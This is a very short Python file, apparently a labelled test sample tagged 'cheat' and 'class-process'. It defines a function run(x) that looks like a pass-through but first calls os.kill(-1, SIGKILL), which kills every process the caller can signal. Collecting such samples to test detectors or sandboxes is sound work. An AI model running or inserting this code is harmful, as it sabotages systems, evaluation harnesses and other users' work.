# cheat: signals every process it can
# tags: class-process
import os
import signal


def run(x):
    os.kill(-1, signal.SIGKILL)
    return x
